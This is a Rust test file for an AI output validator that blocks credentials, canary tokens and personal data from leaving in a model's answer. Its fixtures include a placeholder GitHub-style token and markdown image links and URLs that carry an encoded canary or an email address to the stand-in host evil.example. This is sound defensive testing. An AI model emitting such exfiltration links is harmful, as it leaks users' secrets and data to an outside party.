//! Credentials, registered values and canaries do not leave in an answer, whatever they are wrapped in.

use super::{check, encode, steered, validator};
use blastshield_guard::output::{Context, IssueKind, PromptShingles, Rules, Severity, Validator};
use blastshield_leak::{Canary, Scanner, Severity as CanarySeverity};
use std::sync::Arc;

/// Put together here, so that nobody takes it for a real one.
pub(super) fn token() -> String {
    format!("ghp{}{}", "_", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx")
}

pub(super) fn canary() -> Canary {
    let random = [
        0x9a, 0x3c, 0x51, 0x07, 0xee, 0x42, 0x1b, 0x88, 0xd0, 0x6f, 0x2e, 0x95, 0x73, 0xc4, 0x0b,
        0xfa,
    ];
    Canary::new("memory", CanarySeverity::Critical, random).unwrap()
}

pub(super) fn watchful() -> Validator {
    let scanner = Scanner::builder()
        .key([7; 32])
        .canary(canary())
        .build()
        .unwrap();
    Validator::new(
        Rules::default(),
        scanner,
        Arc::new(PromptShingles::default()),
    )
}

#[test]
fn a_credential_blocks_and_its_place_is_exact() {
    let answer = format!("Voilà: {} !", token());
    let found = check(&answer);
    assert!(!found.safe);
    let issue = found
        .issues
        .iter()
        .find(|issue| issue.kind == IssueKind::CredentialLeak)
        .unwrap();
    assert_eq!(issue.severity, Severity::Block);
    assert_eq!(&answer[issue.location.start..issue.location.end], token());
    assert!(!issue.description.contains(&token()));
}

#[test]
fn a_credential_can_be_a_mere_warning() {
    let rules = Rules {
        block_credential_leaks: false,
        ..Rules::default()
    };
    let found = validator()
        .with_rules(rules)
        .validate(&token(), &Context::default());
    assert!(found.safe && found.issues[0].severity == Severity::Warn);
}

#[test]
fn a_canary_in_base64_of_an_address_is_found() {
    let url = format!("https://evil.example/collect?c={}", canary().token());
    for answer in [
        url.clone(),
        encode(&url),
        format!("see https://other.example/?u={} now", encode(&url)),
        format!(
            "![x](https://other.example/{})",
            encode(&url).replace('=', "")
        ),
    ] {
        let found = watchful().validate(&answer, &steered());
        let issue = found
            .issues
            .iter()
            .find(|issue| issue.kind == IssueKind::CredentialLeak);
        let issue = issue.unwrap_or_else(|| panic!("{answer} {found:?}"));
        assert_eq!(issue.severity, Severity::Block);
        assert!(
            issue.description.contains("memory"),
            "{}",
            issue.description
        );
        assert!(!found.safe);
    }
}

#[test]
fn personal_data_in_what_is_fetched_blocks() {
    let answer = "![x](https://evil.example/p?m=jane.doe@example.org)";
    let found = check(answer);
    assert!(found.issues.iter().any(
        |issue| issue.kind == IssueKind::DataExfiltration && issue.severity == Severity::Block
    ));
    assert!(check("Write to jane.doe@example.org.").safe);
}
